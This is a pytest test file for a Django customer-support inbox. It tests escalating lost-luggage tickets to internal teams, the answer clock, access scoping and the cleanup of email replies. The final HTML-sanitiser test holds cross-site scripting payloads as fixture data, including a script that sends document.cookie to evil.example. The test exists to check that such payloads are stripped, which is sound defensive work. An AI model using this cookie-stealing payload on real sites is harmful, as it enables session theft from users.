"""Escalating a ticket to a back-office team, the answer, cancelling, and the waiting clock."""

from __future__ import annotations

from datetime import timedelta

import factory
import pytest
from django.utils import timezone

from inbox.models import AgentProfile, Escalation, InternalTeam, Message, Ticket, TicketEvent
from inbox.realtime.publish import route_events
from inbox.selectors.escalations import (
    DueState,
    WaitingOnInternal,
    escalation_clock,
    escalation_may_answer,
    escalation_may_cancel,
    escalations_visible_to,
    tickets_waiting_on_internal,
)
from inbox.services.escalations import (
    EscalationError,
    EscalationNotWaiting,
    escalation_answer,
    escalation_cancel,
    escalation_create,
    html_to_text,
    internal_team_create,
    internal_team_update,
    strip_quoted,
)
from inbox.services.ingest import ingest_batch
from tests.factories import AgentProfileFactory, inbound

pytestmark = pytest.mark.django_db

BAG_NOTE = "Customer's bag (tag KL123456) did not arrive on KL642 from JFK. Can you trace it?"


# --- Builders for this area ----------------------------------------------------------------


class InternalTeamFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = InternalTeam

    name = factory.Sequence(lambda n: f"Team {n}")
    email = ""
    queue = None
    target_minutes = 45
    active = True






@pytest.fixture
def lead(db):
    return AgentProfileFactory(user__username="lea", role=AgentProfile.Role.LEAD).user


@pytest.fixture
def email_team(db):
    return InternalTeamFactory(name="Lost luggage", email="lostluggage@klm.example", target_minutes=45)


@pytest.fixture
def desk_team(experts_queue):
    return InternalTeamFactory(name="Baggage experts", queue=experts_queue, target_minutes=30)


@pytest.fixture
def ticket(source, anna):
    """A customer's lost-bag ticket, assigned to Anna and parked as pending."""
    ingest_batch(
        source=source,
        messages=[
            inbound(
                "c1", author="cust1", handle="jan_reist", text="My bag did not arrive on KL642 😡", minutes=0
            ),
            inbound(
                "c2", author="cust1", handle="jan_reist", text="Tag number KL123456", minutes=2, reply_to="c1"
            ),
        ],
    )
    ticket = Ticket.objects.get()
    Ticket.objects.filter(pk=ticket.pk).update(
        assignee=anna, status=Ticket.Status.PENDING, pending_since=timezone.now()
    )
    ticket.refresh_from_db()
    return ticket


def new_events(after: int) -> list[TicketEvent]:
    return list(TicketEvent.objects.filter(pk__gt=after).order_by("pk"))


def last_event_id() -> int:
    return TicketEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


# --- Escalating -----------------------------------------------------------------------------


def test_escalating_to_an_email_team_records_the_note_starts_the_clock_and_mails_after_commit(
    ticket, anna, email_team, django_capture_on_commit_callbacks
):
    before = last_event_id()
    with django_capture_on_commit_callbacks() as callbacks:
        escalation = escalation_create(ticket=ticket, team=email_team, note=f"  {BAG_NOTE}\n", actor=anna)

    note = Message.objects.get(direction=Message.Direction.NOTE)
    assert (escalation.status, escalation.note, escalation.created_by, escalation.team) == (
        "waiting",
        BAG_NOTE,
        anna,
        email_team,
    )
    assert escalation.due_at == note.created_at + timedelta(minutes=45)
    assert (note.ticket, note.text, note.is_public, note.author_user, note.external_id) == (
        ticket,
        BAG_NOTE,
        False,
        anna,
        None,
    )
    assert note.raw == {
        "escalation": {
            "kind": "escalation.created",
            "escalation_id": escalation.pk,
            "team_id": email_team.pk,
            "team": "Lost luggage",
        }
    }
    events = new_events(before)
    assert [(e.type, e.queue_id, e.actor_id) for e in events] == [
        ("message.created", ticket.queue_id, anna.pk),
        ("escalation.created", ticket.queue_id, anna.pk),
    ]
    assert events[1].payload == {
        "escalation_id": escalation.pk,
        "escalation_status": "waiting",
        "team_id": email_team.pk,
        "team": "Lost luggage",
        "due_at": escalation.due_at.isoformat(),
        "assignee_id": anna.pk,
        "status": "pending",
    }
    # The push and the e-mail task, both only after commit.
    assert len(callbacks) == 2
    ticket.refresh_from_db()
    assert ticket.status == Ticket.Status.PENDING  # waiting on internal is its own state


def test_escalating_to_a_desk_team_tells_the_experts_queue_and_sends_no_mail(
    ticket, anna, desk_team, experts_queue, django_capture_on_commit_callbacks
):
    before = last_event_id()
    with django_capture_on_commit_callbacks() as callbacks:
        escalation = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)

    events = new_events(before)
    assert [(e.type, e.queue_id) for e in events] == [
        ("message.created", ticket.queue_id),
        ("escalation.created", ticket.queue_id),
        ("escalation.created", experts_queue.pk),
    ]
    assert events[2].payload == {
        "escalation_id": escalation.pk,
        "escalation_status": "waiting",
        "team_id": desk_team.pk,
        "team": "Baggage experts",
        "due_at": escalation.due_at.isoformat(),
        "status": "pending",
        "audience": "team",
    }
    routed = route_events(events)
    assert [e["type"] for e in routed[f"queue.{experts_queue.pk}"]] == ["escalation.created"]
    assert [e["type"] for e in routed[f"agent.{anna.pk}"]] == ["message.created", "escalation.created"]
    assert len(callbacks) == 1  # the push only


@pytest.mark.parametrize(
    ("change", "error"),
    [
        ({"note": " \n "}, "the note is empty"),
        ({"team": "inactive"}, "team 'Archive' is not active"),
        ({"team": "nowhere"}, "team 'Nowhere' has neither a desk queue nor an e-mail address"),
        ({"ticket_status": "solved"}, "only active tickets can be escalated"),
    ],
    ids=["empty-note", "inactive-team", "team-without-channel", "solved-ticket"],
)
def test_escalation_is_refused_with_the_reason_and_nothing_is_stored(ticket, anna, email_team, change, error):
    team = {
        "inactive": InternalTeamFactory(name="Archive", email="archive@klm.example", active=False),
        "nowhere": InternalTeamFactory(name="Nowhere"),
    }.get(change.get("team"), email_team)
    if "ticket_status" in change:
        Ticket.objects.filter(pk=ticket.pk).update(status=change["ticket_status"])
    before = last_event_id()

    with pytest.raises(EscalationError) as refused:
        escalation_create(ticket=ticket, team=team, note=change.get("note", BAG_NOTE), actor=anna)

    expected = f"ticket #{ticket.pk} is solved; {error}" if "ticket_status" in change else error
    assert str(refused.value) == expected
    assert Escalation.objects.count() == 0
    assert not Message.objects.filter(direction=Message.Direction.NOTE).exists()
    assert new_events(before) == []


def test_a_ticket_waits_on_one_team_once_but_on_several_teams_at_a_time(ticket, anna, email_team, desk_team):
    first = escalation_create(ticket=ticket, team=email_team, note=BAG_NOTE, actor=anna)
    with pytest.raises(EscalationError) as refused:
        escalation_create(ticket=ticket, team=email_team, note="again", actor=anna)
    assert str(refused.value) == f"ticket #{ticket.pk} already waits on Lost luggage (escalation {first.pk})"

    second = escalation_create(ticket=ticket, team=desk_team, note="Also ask the experts", actor=anna)
    assert list(Escalation.objects.order_by("pk").values_list("pk", "status")) == [
        (first.pk, "waiting"),
        (second.pk, "waiting"),
    ]


# --- Answering ------------------------------------------------------------------------------


def test_experts_answer_lands_on_the_ticket_and_gives_it_back_to_the_agent(
    ticket, anna, expert, desk_team, experts_queue
):
    escalation = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    before = last_event_id()

    answered = escalation_answer(
        escalation=escalation,
        text="Found in AMS, on tomorrow's KL641. 🧳",
        answered_by="Piet Smit",
        actor=expert,
    )

    assert (answered.status, answered.answer, answered.answered_by) == (
        "answered",
        "Found in AMS, on tomorrow's KL641. 🧳",
        "Piet Smit",
    )
    note = Message.objects.filter(direction=Message.Direction.NOTE).order_by("-pk").first()
    assert (note.text, note.author_user, note.is_public, note.created_at) == (
        "Found in AMS, on tomorrow's KL641. 🧳",
        expert,
        False,
        answered.answered_at,
    )
    assert note.raw == {
        "escalation": {
            "kind": "escalation.answered",
            "escalation_id": escalation.pk,
            "team_id": desk_team.pk,
            "team": "Baggage experts",
            "answered_by": "Piet Smit",
            "via": "desk",
        }
    }
    ticket.refresh_from_db()
    assert (ticket.status, ticket.pending_since, ticket.assignee) == ("open", None, anna)
    events = new_events(before)
    assert [(e.type, e.queue_id, e.payload.get("assignee_id")) for e in events] == [
        ("message.created", ticket.queue_id, anna.pk),
        ("escalation.answered", ticket.queue_id, anna.pk),
        ("escalation.answered", experts_queue.pk, None),
        ("ticket.status_changed", ticket.queue_id, anna.pk),
    ]
    assert (events[3].payload, events[3].actor_id) == (
        {"old": "pending", "new": "open", "assignee_id": anna.pk, "status": "open"},
        expert.pk,
    )
    assert f"agent.{anna.pk}" in route_events(events)


def test_answer_to_an_open_ticket_leaves_its_status_alone(ticket, anna, expert, desk_team):
    Ticket.objects.filter(pk=ticket.pk).update(status=Ticket.Status.OPEN, pending_since=None)
    escalation = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    before = last_event_id()

    escalation_answer(escalation=escalation, text="On its way", answered_by="Piet Smit", actor=expert)

    assert "ticket.status_changed" not in [e.type for e in new_events(before)]
    ticket.refresh_from_db()
    assert ticket.status == "open"


def test_answering_twice_is_refused_and_stores_one_answer(ticket, anna, expert, desk_team):
    escalation = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    first = escalation_answer(escalation=escalation, text="On its way", answered_by="Piet Smit", actor=expert)
    before = last_event_id()

    with pytest.raises(EscalationNotWaiting) as refused:
        escalation_answer(
            escalation=escalation, text="Second thoughts", answered_by="Piet Smit", actor=expert
        )

    assert str(refused.value) == (
        f"escalation {escalation.pk} was already answered by Piet Smit at {first.answered_at.isoformat()}"
    )
    escalation.refresh_from_db()
    assert escalation.answer == "On its way"
    assert list(Message.objects.filter(direction="note").values_list("text", flat=True).order_by("pk")) == [
        BAG_NOTE,
        "On its way",
    ]
    assert new_events(before) == []


def test_empty_answer_and_anonymous_answer_are_refused(ticket, anna, expert, desk_team):
    escalation = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    with pytest.raises(EscalationError, match="^the answer is empty$"):
        escalation_answer(escalation=escalation, text="\n\t ", answered_by="Piet Smit", actor=expert)
    with pytest.raises(EscalationError, match="^say who answered$"):
        escalation_answer(escalation=escalation, text="Found it", answered_by="  ", actor=expert)
    escalation.refresh_from_db()
    assert (escalation.status, escalation.answer) == ("waiting", "")


# --- Cancelling -----------------------------------------------------------------------------


def test_cancel_stops_waiting_and_a_later_answer_is_refused(ticket, anna, expert, desk_team, experts_queue):
    escalation = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    before = last_event_id()

    cancelled = escalation_cancel(escalation=escalation, actor=anna, reason="Customer found the bag  herself")

    assert cancelled.status == "cancelled"
    events = new_events(before)
    assert [(e.type, e.queue_id) for e in events] == [
        ("escalation.cancelled", ticket.queue_id),
        ("escalation.cancelled", experts_queue.pk),
    ]
    assert events[0].payload["reason"] == "Customer found the bag herself"
    with pytest.raises(EscalationNotWaiting, match=f"^escalation {escalation.pk} was cancelled$"):
        escalation_answer(escalation=escalation, text="Found it", answered_by="Piet Smit", actor=expert)
    with pytest.raises(EscalationNotWaiting, match=f"^escalation {escalation.pk} was cancelled$"):
        escalation_cancel(escalation=escalation, actor=anna)
    assert Message.objects.filter(direction="note").count() == 1


# --- Waiting on internal: the clock ------------------------------------------------------------


def test_waiting_on_internal_shows_the_longest_waiting_escalation_and_its_due_state(
    ticket, anna, email_team, desk_team
):
    first = escalation_create(ticket=ticket, team=email_team, note=BAG_NOTE, actor=anna)
    escalation_create(ticket=ticket, team=desk_team, note="Also ask the experts", actor=anna)
    first.refresh_from_db()
    ten_minutes_in = first.created_at + timedelta(minutes=10)
    an_hour_in = first.created_at + timedelta(minutes=60)

    assert tickets_waiting_on_internal(ticket_ids=[ticket.pk, 999_999], now=ten_minutes_in) == {
        ticket.pk: WaitingOnInternal(
            escalation_id=first.pk,
            team_id=email_team.pk,
            team_name="Lost luggage",
            since=first.created_at,
            due_at=first.due_at,
            waited_seconds=600,
            due_state=DueState.ON_TIME,
            open_count=2,
        )
    }
    assert (
        tickets_waiting_on_internal(ticket_ids=[ticket.pk], now=an_hour_in)[ticket.pk].due_state == "overdue"
    )
    assert tickets_waiting_on_internal(ticket_ids=[]) == {}


def test_clock_stops_at_the_answer_and_a_team_without_target_has_no_due_state(
    ticket, anna, expert, desk_team
):
    InternalTeam.objects.filter(pk=desk_team.pk).update(target_minutes=None)
    desk_team.refresh_from_db()
    escalation = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    assert escalation.due_at is None
    escalation_answer(escalation=escalation, text="On its way", answered_by="Piet Smit", actor=expert)
    escalation.refresh_from_db()
    Escalation.objects.filter(pk=escalation.pk).update(
        answered_at=escalation.created_at + timedelta(seconds=95)
    )
    escalation.refresh_from_db()

    clock = escalation_clock(escalation=escalation, now=escalation.created_at + timedelta(days=3))
    assert (clock.waited_seconds, clock.due_state) == (95, "no_target")
    assert tickets_waiting_on_internal(ticket_ids=[ticket.pk]) == {}


def test_answered_late_stays_overdue_and_cancelled_has_no_clock(ticket, anna, expert, email_team, desk_team):
    late = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    escalation_answer(escalation=late, text="Sorry, late", answered_by="Piet Smit", actor=expert)
    late.refresh_from_db()
    Escalation.objects.filter(pk=late.pk).update(answered_at=late.due_at + timedelta(minutes=1))
    late.refresh_from_db()
    gone = escalation_cancel(
        escalation=escalation_create(ticket=ticket, team=email_team, note=BAG_NOTE, actor=anna), actor=anna
    )

    assert escalation_clock(escalation=late).due_state == "overdue"
    assert escalation_clock(escalation=late).waited_seconds == 31 * 60
    assert (
        escalation_clock(escalation=gone).waited_seconds,
        escalation_clock(escalation=gone).due_state,
    ) == (None, "no_target")


# --- Who sees and answers what ------------------------------------------------------------------


def test_scoping_agent_expert_outsider_and_lead(ticket, anna, expert, outsider, lead, desk_team, email_team):
    to_experts = escalation_create(ticket=ticket, team=desk_team, note=BAG_NOTE, actor=anna)
    to_mail = escalation_create(ticket=ticket, team=email_team, note=BAG_NOTE, actor=anna)

    def seen(user):
        return sorted(escalations_visible_to(user).values_list("pk", flat=True))

    assert seen(anna) == [to_experts.pk, to_mail.pk]
    assert seen(expert) == [to_experts.pk]  # addressed to the expert's queue; the ticket is not theirs
    assert seen(outsider) == []
    assert seen(lead) == [to_experts.pk, to_mail.pk]
    assert [escalation_may_answer(user=u, escalation=to_experts) for u in (anna, expert, outsider, lead)] == [
        False,
        True,
        False,
        True,
    ]
    assert [escalation_may_answer(user=u, escalation=to_mail) for u in (anna, expert, lead)] == [
        False,
        False,
        True,
    ]
    assert [escalation_may_cancel(user=u, escalation=to_experts) for u in (anna, expert, outsider, lead)] == [
        True,
        False,
        False,
        True,
    ]


# --- Teams -------------------------------------------------------------------------------------


def test_team_needs_a_channel_a_unique_name_and_a_positive_target(experts_queue, email_team):
    with pytest.raises(
        EscalationError, match="^team 'Press office' needs a desk queue or an e-mail address$"
    ):
        internal_team_create(name="Press office")
    with pytest.raises(EscalationError, match="^there is already a team called 'lost LUGGAGE'$"):
        internal_team_create(name="lost LUGGAGE", email="other@klm.example")
    with pytest.raises(EscalationError, match="^the answer target must be at least one minute$"):
        internal_team_create(name="Press office", email="press@klm.example", target_minutes=0)

    press = internal_team_create(name=" Press office ", email=" press@klm.example ", target_minutes=240)
    assert (press.name, press.email, press.queue, press.target_minutes, press.active) == (
        "Press office",
        "press@klm.example",
        None,
        240,
        True,
    )
    internal_team_update(team=press, queue=experts_queue, email="", active=False)
    press.refresh_from_db()
    assert (press.queue, press.email, press.active) == (experts_queue, "", False)
    with pytest.raises(EscalationError, match="^cannot change reply_token of an internal team$"):
        internal_team_update(team=press, reply_token="x")


# --- Reading replies: quotes, signatures, HTML ----------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Found it.\n\nOn Tue, 3 Nov 2026 at 10:02, Webcare <desk@klm.example> wrote:\n> question\n",
            "Found it.",
        ),
        (
            "Found it.\nOn Tue, 3 Nov 2026 at 10:02, Webcare desk\n<desk@klm.example> wrote:\n> question",
            "Found it.",
        ),
        ("Gevonden!\n\nOp di 3 nov. 2026 om 10:02 schreef Webcare <desk@klm.example>:\n> vraag", "Gevonden!"),
        ("Found it.\n\n-----Original Message-----\nFrom: Webcare\nSent: Tuesday\n\nquestion", "Found it."),
        (
            "Found it.\n\n________________________________\nFrom: Webcare <desk@klm.example>\nSent: Tuesday",
            "Found it.",
        ),
        (
            "Found it.\n\nFrom: Webcare <desk@klm.example>\nSent: Tuesday, 3 November 2026 10:02\nquestion",
            "Found it.",
        ),
        ("Found it.\n-- \nSanne Bakker\nLost & Found", "Found it."),
        ("Found it.\n\nSent from my iPhone", "Found it."),
        ("> Is it KL642?\nYes, KL642.\n> And the tag?\nKL123456.", "Yes, KL642.\nKL123456."),
        ("Found it.\n\n\n\nCall me.\n> ##- Reply above this line -##\nanything", "Found it.\n\nCall me."),
        ("  indented line stays\r\nsecond\r\n", "  indented line stays\nsecond"),
    ],
    ids=[
        "gmail",
        "wrapped-attribution",
        "dutch",
        "outlook-original",
        "outlook-line",
        "outlook-header",
        "signature",
        "device-footer",
        "inline-answers",
        "marker",
        "crlf",
    ],
)
def test_strip_quoted_keeps_only_the_new_text(text, expected):
    assert strip_quoted(text) == expected


def test_html_is_made_text_without_markup_scripts_or_the_quoted_original():
    html = """<html><head><title>Re: trace</title><style>p { color: red }</style></head><body>
      <div dir="ltr">Hi Anna,<br><br>Bag   is <b>found</b>&nbsp;&amp; on KL641.<br>
      <p>Customer typed &lt;script&gt;alert(1)&lt;/script&gt; in the form.</p>
      <img src="x" onerror="alert(2)"><a href="javascript:alert(3)">tracing link</a>
      <script>document.location = "https://evil.example/?" + document.cookie</script>
      <!-- <p>hidden</p> --><table><tr><td>File</td><td>AMSKL12345</td></tr></table></div>
      <div class="gmail_quote"><div class="gmail_attr">On Tue wrote:</div>
      <blockquote>original question</blockquote></div></body></html>"""

    # Entities are decoded into text (a no-break space reads as a space); no tag survives.
    assert html_to_text(html) == (
        "Hi Anna,\n\nBag is found & on KL641.\n\nCustomer typed <script>alert(1)</script> in the form.\n"
        "tracing link\n\nFile AMSKL12345"
    )
